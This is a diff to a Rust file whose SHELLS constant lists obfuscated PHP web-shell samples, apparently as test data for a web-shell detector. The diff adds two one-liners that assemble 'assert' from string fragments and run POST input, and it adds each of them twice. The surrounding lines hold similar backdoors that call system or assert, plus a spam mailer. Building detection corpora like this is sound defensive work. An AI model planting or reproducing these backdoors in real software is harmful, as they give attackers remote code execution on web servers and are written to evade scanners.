@@ -37,6 +37,8 @@ const SHELLS: &[(&str, &str)] = &[
     ),
     ("listed.php", "<?php list($a, $b) = array('ass', 'ert'); $c = $a.$b; $c($_POST['k']);"),
     ("picked.php", "<?php $t = 'tsrea'; $n = $t[4].$t[1].$t[1].$t[3].$t[2].$t[0]; $n($_POST['k']);"),
+    ("put.php", "<?php $n = substr_replace('asxxx', 'sert', 2); $n($_POST['x']);"),
+    ("behind.php", "<?php $n = substr(strstr('run:assert', ':'), 1); $n($_POST['x']);"),
     ("named.php", "<?php $v = 'n'; $$v = 'ass'.'ert'; $n($_POST['k']);"),
     ("constant.php", "<?php define('NAME', 'sys'.'tem'); $n = NAME; $n($_GET['c']);"),
     ("defined.php", "<?php $n = get_defined_vars()['_GET']['f']; $n($_POST['k']);"),
@@ -76,6 +78,8 @@ const SHELLS: &[(&str, &str)] = &[
         "mailer.php",
         "<?php $l = explode(\"\\n\", $_POST['l']); foreach ($l as $to) { mail($to, $_POST['s'], stripslashes($_POST['m']), 'From: '.$_POST['f']); }",
     ),
+    ("put.php", "<?php $n = substr_replace('asxxx', 'sert', 2); $n($_POST['x']);"),
+    ("behind.php", "<?php $n = substr(strstr('run:assert', ':'), 1); $n($_POST['x']);"),
     ("named.php", "<?php define('RUN', 'sys'.'tem'); RUN($_GET['c']);"),
     ("stream.php", "<?php $q = $_GET['q']; file_get_contents('php'.$q)($_GET['a']);"),
     (
